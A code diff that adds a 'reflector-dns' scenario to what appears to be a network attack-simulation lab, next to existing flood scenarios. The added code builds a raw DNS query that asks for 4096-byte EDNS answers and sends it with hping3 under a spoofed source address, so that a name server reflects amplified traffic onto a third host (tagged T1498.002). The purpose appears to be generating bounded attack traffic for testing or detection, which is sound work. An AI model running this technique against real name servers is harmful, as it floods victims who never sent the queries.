@@ -1,4 +1,7 @@
+import { writeFileSync } from 'node:fs';
+import { join } from 'node:path';
 import type { Scenario, ScenarioContext } from '../scenario.js';
+import { LONG_NAME } from '../services/dnsmasq.js';
 
 /** Packets a second. The flood lasts at most this long, whatever --seconds says: its size is bounded twice. */
 const RATE_PPS = { slow: 200, normal: 2000, fast: 10_000 };
@@ -109,4 +112,35 @@ const apacheBench: Scenario = {
   },
 };
 
-export const floods: readonly Scenario[] = [...FLOODS.map(flood), http, apacheBench];
+/** Question for the texts of a name that takes answers of 4096 bytes (RFC 6891). */
+function longQuestion(): Buffer {
+  const labels = LONG_NAME.split('.').map((label) => Buffer.from(`${String.fromCharCode(label.length)}${label}`));
+  const header = Buffer.from([0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 1]);
+  return Buffer.concat([header, ...labels, Buffer.from([0, 0, 16, 0, 1, 0, 0, 41, 16, 0, 0, 0, 0, 0, 0, 0])]);
+}
+
+const reflector: Scenario = {
+  name: 'reflector-dns',
+  summary: 'hping3 asks the name server for a long answer in the name of somebody outside',
+  kind: 'attack',
+  services: ['dns'],
+  run: async (context) => {
+    const [flooded = ''] = context.attackers();
+    const question = longQuestion();
+    const file = join(context.lab.dir, 'question');
+    writeFileSync(file, question);
+    const rate = context.at({ slow: 100, normal: 500, fast: 2000 });
+    const count = rate * Math.min(context.seconds, LONGEST_SECS);
+    const pace = ['-q', '-c', String(count), '-i', `u${Math.round(1e6 / rate)}`];
+    const ask = ['--udp', '-p', '53', '-d', String(question.length), '-E', file, '-a', flooded, context.victim.ip4];
+    const facts = {
+      label: 'amplification_reflector',
+      technique: 'T1498.002',
+      sources: [flooded],
+      targets: [context.victim.ip4],
+    };
+    await context.attack(facts, 'attacker', 'hping3', [...pace, ...ask]);
+  },
+};
+
+export const floods: readonly Scenario[] = [...FLOODS.map(flood), http, apacheBench, reflector];
